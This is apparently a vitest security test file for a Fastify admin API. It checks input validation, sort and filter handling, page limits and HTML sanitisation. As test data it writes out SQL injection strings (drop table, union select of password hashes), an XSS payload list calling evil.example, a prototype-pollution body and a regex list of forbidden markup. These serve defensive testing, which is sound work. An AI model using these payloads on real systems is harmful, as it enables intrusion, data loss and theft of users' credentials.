/**
 * SECURITY 21–25: whatever a client sends, the answer is a 4xx with a message and the data
 * stays as it was; rich text is stored only once sanitised.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { count, eq, sql } from 'drizzle-orm';
import type { InjectOptions, LightMyRequestResponse } from 'fastify';
import { resources } from '../../../resources/index.ts';
import { informations } from '../../../resources/informations/schema.ts';
import { questions } from '../../../resources/questions/schema.ts';
import { tags } from '../../../resources/tags/schema.ts';
import { serverResource } from '../../../server/registry.ts';
import { API, buildTestApp, type TTestApp } from '../../helpers/buildTestApp.ts';
import { someRecordId } from '../helpers/records.ts';
import { tokenOf } from '../helpers/staff.ts';

const tagTable = serverResource(tags).table;

let t: TTestApp;
let token: string;
beforeAll(async () => {
  t = await buildTestApp();
  token = await t.login();
  await t.db.insert(tagTable).values(Array.from({ length: 520 }, (_, i) => ({ name: `Tag ${String(i).padStart(3, '0')}`, sort: i })));
});
afterAll(() => t.close());

const call = (options: InjectOptions) => t.call(token, options);
const list = (query: Record<string, string>) => call({ url: `${API}/tags?${new URLSearchParams(query)}` });

/** A client error that says what is wrong in the app's format, never a 500 or Fastify's own body. */
const expectClientError = (res: LightMyRequestResponse, label: string) => {
  expect(res.statusCode, `${label}: ${res.body}`).toBeGreaterThanOrEqual(400);
  expect(res.statusCode, `${label}: ${res.body}`).toBeLessThan(500);
  const body = res.json();
  expect(typeof body.message, label).toBe('string');
  expect(Object.keys(body).filter((k) => k !== 'message' && k !== 'errors'), label).toEqual([]);
};

const tagCount = async () => Number(((await t.db.select({ n: count() }).from(tagTable)) as [{ n: number }])[0].n);

describe('bodies and content types (21)', () => {
  it('answers 415 to a body that is not JSON', async () => {
    for (const type of ['text/plain', 'application/xml', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/jsonx']) {
      const res = await call({ method: 'POST', url: `${API}/tags`, headers: { 'content-type': type }, body: 'name=Injected' });
      expect(res.statusCode, type).toBe(415);
      expect(res.json()).toEqual({ message: 'Unsupported content type.' });
    }
    expect(await tagCount()).toBe(520);
  });

  it('answers 422 naming each unknown field, on create, update and login', async () => {
    const created = await call({ method: 'POST', url: `${API}/tags`, payload: { name: 'Fine', id: 7, created_at: '2020-01-01T00:00:00Z' } });
    expect(created.statusCode).toBe(422);
    expect(created.json().errors).toEqual({ id: ['Unknown field'], created_at: ['Unknown field'] });
    const updated = await call({ method: 'PUT', url: `${API}/tags/1`, payload: { sort: 1, updated_at: '2020-01-01T00:00:00Z' } });
    expect(updated.json().errors).toEqual({ updated_at: ['Unknown field'] });
    const login = await t.app.inject({ method: 'POST', url: `${API}/login`, payload: { username: 'admin', password: 'x', otp: '123456' } });
    expect(login.statusCode).toBe(422);
    expect(login.json().errors).toEqual({ otp: ['Unknown field'] });
  });

  it('validates the query string too', async () => {
    expectClientError(await list({ range: `[${'0,'.repeat(60)}1]` }), 'over-long range');
    expectClientError(await call({ url: `${API}/tags?sort=a&sort=b` }), 'repeated sort');
  });
});

describe('sort and filter (22)', () => {
  it('sort only by declared columns: unknown, secret and crafted columns answer 400', async () => {
    for (const sort of [
      ['password_hash', 'ASC'],
      ['token_version', 'DESC'],
      ['missing', 'ASC'],
      ['name; drop table tags', 'ASC'],
      ['name', 'ASC; drop table tags'],
      ['name', 'ASC NULLS FIRST'],
      ['"name"', 'ASC'],
      ['toString', 'ASC'],
      ['__proto__', 'ASC'],
    ]) {
      const res = await list({ sort: JSON.stringify(sort) });
      expect(res.statusCode, sort.join(' ')).toBe(400);
      expect(res.json()).toEqual({ message: 'The request is not valid.' });
    }
  });

  it('treats injection strings as values: empty lists or 400, never 500, and the data unchanged', async () => {
    const attacks = [
      "' or '1'='1",
      "'; drop table tags; --",
      '%',
      '_',
      '\\',
      "1) or (1=1",
      "Tag 001' union select password_hash from admins --",
    ];
    for (const attack of attacks) {
      for (const query of [{ filter: JSON.stringify({ q: attack }) }, { filter: JSON.stringify({ name: attack }) }]) {
        const res = await list(query);
        expect(res.statusCode, `${attack} ${query.filter}`).toBe(200);
        expect(res.json(), attack).toEqual([]);
      }
    }
    const crafted: Record<string, string>[] = [
      { filter: JSON.stringify({ id: ['1 or 1=1'] }) },
      { filter: JSON.stringify({ id: '1; delete from tags' }) },
      { filter: JSON.stringify({ id: [1.5] }) },
      { filter: JSON.stringify({ id: [-1] }) },
      { filter: JSON.stringify({ 'name) or (1=1': 'x' }) },
      { filter: JSON.stringify({ sort_gte: "0 or 1=1" }) },
      { filter: JSON.stringify({ name: { $ne: null } }) },
      { filter: JSON.stringify({ name: ['a', { or: 1 }] }) },
      { filter: '{"q": "unterminated' },
      { filter: '["not","an","object"]' },
      { range: '["0 or 1=1", 9]' },
      { range: '[0, "9; drop table tags"]' },
    ];
    for (const query of crafted) {
      expectClientError(await list(query), JSON.stringify(query));
    }
    expect(await tagCount()).toBe(520);
    expect((await t.call(token, { url: `${API}/tags/1` })).statusCode).toBe(200);
  });
});

describe('pages (23)', () => {
  it('caps a page at 500 rows', async () => {
    expect((await list({ range: '[0,499]' })).json()).toHaveLength(500);
    expectClientError(await list({ range: '[0,500]' }), '501 rows');
    expectClientError(await list({ range: '[10,5]' }), 'reversed');
    expectClientError(await list({ range: '[-1,5]' }), 'negative');
    expectClientError(await list({ range: '[0,1e300]' }), 'huge');
  });

  it('answers a deep offset with an empty page and the total', async () => {
    const res = await list({ range: '[100000,100024]' });
    expect(res.statusCode).toBe(200);
    expect(res.json()).toEqual([]);
    expect(res.headers['content-range']).toMatch(/^tags 100000-\d+\/520$/);
  });
});

const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src="/media/a.png" onerror="alert(2)">',
  '<p onclick="alert(3)" style="background:url(javascript:alert(4))">click</p>',
  '<a href="javascript:alert(5)">a</a>',
  '<a href="JaVaScRiPt:alert(6)">b</a>',
  '<a href="&#106;avascript:alert(7)">c</a>',
  '<a href="java\tscript:alert(8)">d</a>',
  '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCg5KTwvc2NyaXB0Pg==">',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="evil.swf"></object><embed src="evil.swf">',
  '<svg onload="alert(10)"><script>alert(11)</script></svg>',
  '<form action="https://evil.example"><input name="password"></form>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<style>body{display:none}</style><link rel="stylesheet" href="https://evil.example/x.css">',
].join('');

const KEPT = '<h2>Refunds</h2><p>Within <strong>48 hours</strong>, see <a href="https://example.com/refunds">our policy</a>.</p><ul><li>one</li></ul>';

/** What must never survive, in any case. */
const FORBIDDEN = [/<script/i, /\son[a-z]+=/i, /javascript:/i, /<iframe/i, /<object/i, /<embed/i, /<form/i, /<base/i, /<meta/i, /<link/i, /<style/i, /<svg/i, /style=/i, /data:text/i, /alert\(/];

const expectClean = (html: string) => {
  for (const pattern of FORBIDDEN) expect(html, String(pattern)).not.toMatch(pattern);
};

describe('rich text (24)', () => {
  it('is sanitised on create, in the answer and in the database, and keeps ordinary formatting', async () => {
    const res = await t.call(token, { method: 'POST', url: `${API}/questions`, payload: { question: 'Hostile?', answer: KEPT + HOSTILE } });
    expect(res.statusCode).toBe(201);
    expectClean(res.json().answer);
    expect(res.json().answer.startsWith(KEPT)).toBe(true);
    const table = serverResource(questions).table;
    const [row] = await t.db.select().from(table).where(eq(table.id, res.json().id));
    expectClean(row!.answer as string);
    expect(row!.answer).toBe(res.json().answer);
  });

  it('is sanitised on update', async () => {
    const table = serverResource(informations).table;
    const [page] = await t.db.select().from(table).where(eq(table.type, 'privacy'));
    const res = await t.call(token, { method: 'PUT', url: `${API}/informations/${page!.id}`, payload: { content: HOSTILE + KEPT } });
    expect(res.statusCode).toBe(200);
    expectClean(res.json().content);
    expect(res.json().content).toContain(KEPT);
    const [row] = await t.db.select().from(table).where(eq(table.id, page!.id));
    expectClean(row!.content as string);
  });

  it("keeps what the editor's toolbar makes (alignment, text colour, highlight, images) and no other style", async () => {
    const edited =
      '<h2 style="text-align:center">Title</h2><p style="text-align:justify"><span style="color:#958DF1">violet</span> ' +
      '<mark data-color="#ffa8a8" style="background-color:#ffa8a8;color:inherit">marked</mark></p><img src="/media/images/ab/cd.png" />';
    const hostileStyles =
      '<p style="text-align:center;background:url(https://evil.example/x.png)">a</p><span style="color:red;position:fixed;top:0">b</span>' +
      '<mark style="background-color:expression(alert(1))">c</mark><div style="text-align:center">d</div>';
    const res = await t.call(token, { method: 'POST', url: `${API}/questions`, payload: { question: 'Styled?', answer: edited + hostileStyles } });
    expect(res.statusCode).toBe(201);
    expect(res.json().answer).toBe(`${edited}<p style="text-align:center">a</p><span>b</span><mark>c</mark><div>d</div>`);
  });

  it('leaves plain text fields as typed: they are escaped where shown, not stored as HTML', async () => {
    const res = await t.call(token, { method: 'POST', url: `${API}/questions`, payload: { question: 'Is <b>bold</b> & safe?', answer: '<p>a</p>' } });
    expect(res.json().question).toBe('Is <b>bold</b> & safe?');
  });
});

describe('malformed requests (25)', () => {
  it('answer 4xx with a message for malformed, empty, huge and deeply nested JSON', async () => {
    const post = (body: string) => call({ method: 'POST', url: `${API}/tags`, headers: { 'content-type': 'application/json' }, body });
    expectClientError(await post('{"name": '), 'malformed');
    expectClientError(await post(''), 'empty');
    expectClientError(await post('{"name":"x","__proto__":{"admin":true}}'), 'prototype key');
    const huge = await post(JSON.stringify({ name: 'x'.repeat(2 * 1024 * 1024) }));
    expect(huge.statusCode).toBe(413);
    expect(huge.json()).toEqual({ message: 'The request is too large.' });
    const nested = await post(`{"name":${'['.repeat(100_000)}${']'.repeat(100_000)}}`);
    expectClientError(nested, 'nested');
    expect(await tagCount()).toBe(520);
  });

  it('answer 4xx for NUL bytes in bodies, filters, sorts and the login', async () => {
    expectClientError(await call({ method: 'POST', url: `${API}/tags`, payload: { name: 'nul\u0000byte' } }), 'body');
    expectClientError(await call({ method: 'PUT', url: `${API}/tags/1`, payload: { name: 'nul\u0000byte' } }), 'update');
    expectClientError(await list({ filter: JSON.stringify({ q: 'a\u0000' }) }), 'q');
    expectClientError(await list({ filter: JSON.stringify({ name: 'a\u0000' }) }), 'filter');
    expectClientError(await list({ sort: JSON.stringify(['name\u0000', 'ASC']) }), 'sort');
    expectClientError(await t.app.inject({ method: 'POST', url: `${API}/login`, payload: { username: 'ad\u0000min', password: 'x\u0000' } }), 'login');
    expect(await tagCount()).toBe(520);
  });

  it('answer 4xx for ids that are not digits or do not fit', async () => {
    for (const id of ['abc', '1.5', '-1', '0', '0x10', '1e3', '+1', '%201', '99999999999', '2147483648', '%00', '1%00', '%E0%A4%A', '9'.repeat(300)]) {
      for (const method of ['GET', 'PUT', 'DELETE'] as const) {
        const res = await call({ method, url: `${API}/tags/${id}`, ...(method === 'PUT' ? { payload: { sort: 1 } } : {}) });
        expectClientError(res, `${method} ${id}`);
        expect(res.headers['cache-control'], `${method} ${id}`).toBe('no-store');
      }
    }
    const res = await call({ url: `${API}/tags/abc` });
    expect(res.json()).toEqual({ message: 'The request is not valid.', errors: { id: ['Must be a whole number'] } });
    expect(await tagCount()).toBe(520);
  });

  it('answer 4xx for bulk ids that are not positive integers', async () => {
    for (const ids of [[], ['1'], [0], [1.5], [2147483648], Array.from({ length: 501 }, (_, i) => i + 1), 'all']) {
      expectClientError(await call({ method: 'POST', url: `${API}/tags/delete-many`, payload: { ids } }), JSON.stringify(ids).slice(0, 40));
    }
    expect(await tagCount()).toBe(520);
  });
});

describe('every route', () => {
  it('answers garbage with a 4xx, never a 500', async () => {
    const [admin] = (await t.db.execute(sql`select id from admins where username = 'admin'`).then((r) => (r as unknown as { rows: { id: number }[] }).rows));
    const ids = Object.fromEntries(await Promise.all(resources.map(async (r) => [r.name, await someRecordId(t, r)] as const)));
    const fieldsOf = (url: string) => Object.keys(resources.find((r) => url.startsWith(`${API}/${r.name}`))?.fields ?? { name: {}, password: {}, currentPassword: {} });
    const junk: unknown[] = [{}, [], true, 1e308, -1, 'x'.repeat(70_000), 'nul\u0000', { nested: { deeper: [1] } }, null];
    for (const route of t.app.apiRoutes.filter((r) => !['GET', 'HEAD'].includes(r.method) && !r.url.endsWith('/logout'))) {
      const url = route.url.replace(':id', String(ids[route.url.slice(API.length + 1).split('/')[0]!] ?? 1));
      const bodies = ['null', '[]', '"text"', '0', 'true', '{"id":1}', ...fieldsOf(route.url).flatMap((field) => junk.map((value) => JSON.stringify({ [field]: value })))];
      // Signed once a route, and again when a body it took ended the admin's session (a password changed): each body reaches the route.
      let token = await tokenOf(t, admin!.id);
      const send = (body: string) => t.app.inject({ method: route.method as 'POST', url, headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' }, body });
      for (const body of bodies) {
        let res = await send(body);
        if (res.statusCode === 401 && !url.includes('/login')) {
          token = await tokenOf(t, admin!.id);
          res = await send(body);
        }
        expect(res.statusCode, `${route.method} ${url} ${body.slice(0, 60)}: ${res.body}`).toBeLessThan(500);
      }
    }
    for (const route of t.app.apiRoutes.filter((r) => r.method === 'GET' && !r.url.includes(':id'))) {
      for (const query of ['sort=[]', 'sort={}', 'range={}', 'range=[0]', 'filter=[]', 'filter=null', 'filter=1', 'filter={"q":1}', 'range=[0,0]&sort=["id","desc"]']) {
        const res = await t.call(token, { url: `${route.url}?${query}` });
        expect(res.statusCode, `${route.url}?${query}: ${res.body}`).toBeLessThan(500);
      }
    }
    // Thousands of requests: every write route times every field times every kind of junk.
  }, 240_000);
});
